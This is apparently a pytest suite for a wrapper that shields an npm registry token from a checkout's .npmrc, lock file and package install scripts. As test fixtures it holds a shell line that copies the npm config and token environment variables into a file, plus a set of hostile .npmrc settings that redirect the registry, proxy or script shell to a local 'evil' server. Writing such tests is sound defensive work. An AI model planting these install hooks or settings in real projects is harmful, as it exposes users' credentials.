"""npm in a checkout that wants the token: its `.npmrc`, its lock file, the scripts of packages.
With the real npm."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from lab.clients import client
from lab.patience import patience, until
from lab.servers.evil import Evil, open_evil
from lab.servers.tls import Answer, Guarded, open_guarded
from lab.support import BIN, Done, Home, pitchpoint_config
from lab.worlds.vendor import Vendor


def packed(host: str, **members: Any) -> Mapping[str, Answer]:
    """A registry under /npm/ with the package `toy`, which has these members."""
    package = {"name": "toy", "version": "1.0.0", **members}
    content, archive = json.dumps(package).encode(), io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        info = tarfile.TarInfo("package/package.json")
        info.size = len(content)
        tar.addfile(info, io.BytesIO(content))
    body = archive.getvalue()
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(body).digest()).decode()
    dist = {"tarball": f"https://{host}/npm/toy/-/toy-1.0.0.tgz", "integrity": integrity}
    versions = {"1.0.0": {**package, "dist": dist, "hasInstallScript": "scripts" in members}}
    document = {"name": "toy", "dist-tags": {"latest": "1.0.0"}, "versions": versions}
    return {
        "/npm/toy": document,
        "/npm/@team%2ftoy": {},
        "/npm/toy/-/toy-1.0.0.tgz": body,
    }


STEAL = (
    'cp "$npm_config_userconfig" "$HOME/stolen" 2>/dev/null;'
    ' env | grep -i token >> "$HOME/stolen"; true'
)


@pytest.fixture
def server(home: Home, vendor: Vendor) -> Iterator[Guarded]:
    client("npm")
    answers: dict[str, Answer] = {}
    with open_guarded(home.path, is_live=vendor.world.is_live, answers=answers) as server:
        answers |= packed(server.host, scripts={"postinstall": STEAL})
        home.configure(pitchpoint_config(vendor.address, more=f'hosts = ["{server.host}"]'))
        home.environment["PATH"] = f"{BIN}:{home.environment['PATH']}"
        (home.path / ".npmrc").write_text(
            f"registry={server.address}/npm/\ncafile={server.ca_file}\nfetch-retries=0\n"
            "update-notifier=false\n"
        )
        yield server


@pytest.fixture
def evil(home: Home) -> Iterator[Evil]:
    with open_evil(home.path) as server:
        yield server


@pytest.fixture
def checkout(home: Home) -> Path:
    work = home.path / "checkout"
    work.mkdir()
    (work / "package.json").write_text('{"name": "mine", "dependencies": {"toy": "1.0.0"}}')
    return work


def install(home: Home, checkout: Path, *options: str, words: tuple[str, ...] = ()) -> Done:
    command = [str(BIN / "nightporter"), "run", "--npm", *options, "pitchpoint", "--"]
    done = subprocess.run(
        [*command, "npm", *(words or ("install",))],
        env=home.environment,
        cwd=checkout,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=patience(120),
    )
    return Done(code=done.returncode, out=done.stdout, err=done.stderr)


def is_clean(home: Home, token: str) -> bool:
    """Whether the token is in no file but the cache's own."""
    files = [path for path in home.path.rglob("*") if path.is_file() and path.suffix != ".token"]
    found = [path for path in files if token in path.read_text(errors="replace")]
    return [path for path in found if path.parent != home.cache and path.parent != home.data] == []


def test_it_installs(home: Home, checkout: Path, server: Guarded, vendor: Vendor) -> None:
    done = install(home, checkout)
    assert done.code == 0, done.err + done.out
    assert (checkout / "node_modules/toy/package.json").exists()
    assert set(server.sent_tokens()) == {home.run("token").out.strip()}
    assert not (home.path / "stolen").exists()
    assert is_clean(home, server.sent_tokens()[0])


def hostile(server: Guarded, evil: Evil) -> Mapping[str, str]:
    token = "${NIGHTPORTER_TOKEN}"
    host = server.host
    return {
        "another registry": (
            f"registry={evil.address}/\n//127.0.0.1:{evil.port}/:_authToken={token}\n"
        ),
        "a proxy without a check": (
            f"registry={server.address}/npm/\nhttps-proxy={evil.address}\nproxy={evil.address}\n"
            "strict-ssl=false\nnoproxy=\n"
        ),
        "a proxy with a CA of its own": (
            f"registry={server.address}/npm/\nhttps-proxy={evil.address}\ncafile={evil.ca_file}\n"
            f"ca={json.dumps(evil.ca_file.read_text())}\n"
        ),
        "programs": (
            "git=./evil.sh\nscript-shell=./evil.sh\nnode-options=--require=./evil.js\n"
            "shell=./evil.sh\nignore-scripts=false\nfoo=${npm_config_userconfig}\n"
        ),
        "a scope": (
            f"@team:registry={evil.address}/\n//{host}/npm/:_authToken={token}\n"
            f"//127.0.0.1:{evil.port}/:_authToken={token}\n//{host}/:certfile=./cert\n"
        ),
        "another user's file": "userconfig=./mine\nglobalconfig=./mine\nprefix=./mine\n",
    }


CASES = (
    "another registry",
    "a proxy without a check",
    "a proxy with a CA of its own",
    "programs",
    "a scope",
    "another user's file",
)


@pytest.mark.parametrize("case", CASES)
def test_a_checkout_s_npmrc(
    home: Home, checkout: Path, server: Guarded, evil: Evil, case: str
) -> None:
    (checkout / ".npmrc").write_text(hostile(server, evil)[case])
    for name in ("evil.sh", "evil.js"):
        (checkout / name).write_text(f"#!/bin/sh\n{STEAL}\n")
        (checkout / name).chmod(0o755)
    if case == "programs":
        (checkout / "package.json").write_text(
            '{"name": "m", "scripts": {"postinstall": "true"}, "dependencies": {"toy": "1.0.0",'
            ' "g": "git+https://127.0.0.1:1/g.git"}}'
        )
    install(home, checkout)
    token = home.run("token").out.strip()
    assert token not in evil.text()
    assert not (home.path / "stolen").exists()
    assert is_clean(home, token)


def test_plain_http_to_a_host_of_ours_is_refused(
    home: Home, checkout: Path, server: Guarded
) -> None:
    """npm gives a host's token to http and https alike; a lock file can name either."""
    for name, text in (
        (".npmrc", f"registry=http://{server.host}/npm/\n"),
        ("package-lock.json", f'{{"resolved": "http:\\/\\/{server.host}/npm/toy.tgz"}}'),
        ("package-lock.json", f'{{"resolved": "\\u0048ttp://x@{server.host}/npm/toy.tgz"}}'),
    ):
        (checkout / name).write_text(text)
        done = install(home, checkout)
        assert done.code == 7, done.err
        assert "by plain http" in done.err
        (checkout / name).unlink()
    assert server.seen == []


def test_the_company_s_proxy_is_used(
    home: Home, checkout: Path, server: Guarded, evil: Evil
) -> None:
    """The user's own settings hold, against those of the checkout."""
    rc = home.path / ".npmrc"
    rc.write_text(rc.read_text() + f"https-proxy={evil.address}\n")
    (checkout / ".npmrc").write_text("https-proxy=null\nnoproxy=*\n")
    install(home, checkout)
    assert f"CONNECT {server.host}" in evil.text()


def test_scripts_run_where_the_user_says_so(home: Home, checkout: Path, server: Guarded) -> None:
    (checkout / ".npmrc").write_text("allow-scripts=toy\n")
    assert install(home, checkout, "--with-scripts").code == 0
    assert "_authToken" in (home.path / "stolen").read_text()  # the page says that they can


def test_the_exit_code_is_npm_s(home: Home, checkout: Path, server: Guarded) -> None:
    (checkout / "package.json").write_text('{"name": "mine", "dependencies": {"no": "1.0.0"}}')
    assert install(home, checkout).code == 1
    done = home.run("run", "--npm", "pitchpoint", "--", "/nowhere/npm", "install")
    assert done.code == 2
    assert "can't be run" in done.err


def test_what_a_killed_run_leaves_is_swept(home: Home, checkout: Path, server: Guarded) -> None:
    fake = home.path / "fake"
    fake.write_text("#!/bin/sh\nsleep 60\n")
    fake.chmod(0o755)
    command = [str(BIN / "nightporter"), "run", "--npm", "pitchpoint", "--", str(fake)]
    process = subprocess.Popen(command, env=home.environment, cwd=checkout, start_new_session=True)
    (left,) = until(lambda: list(home.cache.glob("run-*/npmrc")))
    assert left.stat().st_mode & 0o777 == 0o600
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    assert left.exists()
    assert install(home, checkout).code == 0
    assert not left.exists()


def test_an_end_is_passed_on_and_cleans_up(home: Home, checkout: Path, server: Guarded) -> None:
    fake = home.path / "fake"
    fake.write_text("#!/bin/sh\necho $$ > pid\nexec sleep 60\n")
    fake.chmod(0o755)
    command = [str(BIN / "nightporter"), "run", "--npm", "pitchpoint", "--", str(fake)]
    process = subprocess.Popen(command, env=home.environment, cwd=checkout)
    until(lambda: (checkout / "pid").exists() and (checkout / "pid").read_text().strip())
    process.terminate()
    assert process.wait(timeout=patience(20)) == 128 + signal.SIGTERM
    assert list(home.cache.glob("run-*")) == []


STARTING = """\
import os, signal, subprocess
from nightporter.cli import npm

def started(*words, begun=subprocess.Popen, **more):
    os.kill(os.getpid(), signal.{0})
    child = begun(*words, **more)
    os.kill(os.getpid(), signal.{0})
    return child

relay = npm._Relay()
subprocess.Popen = started
print(relay.run(["sleep", "{1}"], os.environ))
"""


def run_code(code: str) -> str:
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=patience(50)
    )
    assert (done.returncode, done.stderr) == (0, "")
    return done.stdout.strip()


@pytest.mark.parametrize(("name", "code"), [("SIGTERM", 143), ("SIGHUP", 129), ("SIGUSR1", 138)])
def test_an_end_while_the_command_begins_is_passed_on(name: str, code: int) -> None:
    """On a loaded machine the command can run before we have heard of it."""
    ended = run_code(STARTING.format(name, 60))
    assert ended == str(code)


def test_an_interrupt_is_the_command_s_own() -> None:
    """A terminal sends it to both; the command doesn't inherit that we pass it by."""
    assert run_code(STARTING.format("SIGINT", 0)) == "0"
    heard = STARTING.replace('["sleep", "{1}"]', '["sh", "-c", "kill -INT $$"]')
    assert run_code(heard.format("SIGINT")) == "130"


def test_setup_takes_the_variable_out(home: Home, server: Guarded) -> None:
    """What earlier versions wrote into the user's npmrc, any checkout could send elsewhere."""
    rc = home.path / ".npmrc"
    before = rc.read_text()
    rc.write_text(f"{before}//{server.host}/:_authToken=${{NIGHTPORTER_TOKEN}}\n")
    done = home.run("setup", "npm", "pitchpoint")
    assert done.code == 0, done.err
    assert "run npm as: nightporter run --npm pitchpoint -- npm install" in done.err
    assert "NIGHTPORTER_TOKEN" not in rc.read_text()
